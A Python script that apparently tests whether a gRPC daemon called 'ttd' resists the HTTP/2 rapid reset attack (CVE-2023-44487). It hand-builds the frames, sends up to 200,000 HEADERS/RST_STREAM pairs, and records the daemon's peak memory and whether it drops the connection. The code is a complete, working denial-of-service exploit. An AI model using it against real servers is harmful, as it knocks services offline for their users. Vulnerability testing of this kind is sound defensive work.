#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a plain-text ttd listener, with hand-made frames:
the client preface and SETTINGS, then PAIRS times a HEADERS frame opening a ListDevices call and
an RST_STREAM cancelling it, written as fast as the socket takes them. Meanwhile the daemon's
RSS is sampled, and it prints how many pairs went out before the daemon closed the connection.
  rapid_reset.py HOST:PORT|unix-abstract:NAME|unix:PATH [PAIRS] [PID]
"""
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):  # literal header field without indexing, new name
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEADERS = (b"\x83\x86" + literal(b":path", b"/ttd.v1.Device/ListDevices") + literal(b":authority", b"x") +
           literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def connect(target):
    if target.startswith("unix-abstract:"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect("\0" + target[len("unix-abstract:"):])
    elif target.startswith("unix:"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(target[5:])
    else:
        host, port = target.rsplit(":", 1)
        s = socket.create_connection((host, int(port)))
    return s


def rss_kib(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return -1


def main():
    target = sys.argv[1]
    pairs = int(sys.argv[2]) if len(sys.argv) > 2 else 200000
    pid = int(sys.argv[3]) if len(sys.argv) > 3 else 0
    peak = [rss_kib(pid) if pid else -1]
    stop = threading.Event()

    def sample():
        while not stop.is_set():
            peak[0] = max(peak[0], rss_kib(pid))
            time.sleep(0.02)

    if pid:
        threading.Thread(target=sample, daemon=True).start()
    s = connect(target)
    s.sendall(PREFACE + frame(4, 0, 0))
    sent = 0
    batch = 256
    t0 = time.time()
    try:
        while sent < pairs:
            chunk = []
            for i in range(min(batch, pairs - sent)):
                sid = 2 * (sent + i) + 1
                chunk.append(frame(1, 0x4, sid, HEADERS) + frame(3, 0, sid, struct.pack(">I", 8)))
            s.sendall(b"".join(chunk))
            sent += len(chunk)
        closed = False
    except OSError:
        closed = True
    secs = time.time() - t0
    if not closed:  # all sent: does the daemon close us anyway?
        s.settimeout(5)
        try:
            while s.recv(65536):
                pass
            closed = True
        except OSError:
            closed = True
        except socket.timeout:
            closed = False
    time.sleep(0.5)
    stop.set()
    print("pairs_sent=%d closed_by_daemon=%d seconds=%.2f peak_rss_kib=%d" % (sent, closed, secs, peak[0]))


if __name__ == "__main__":
    main()
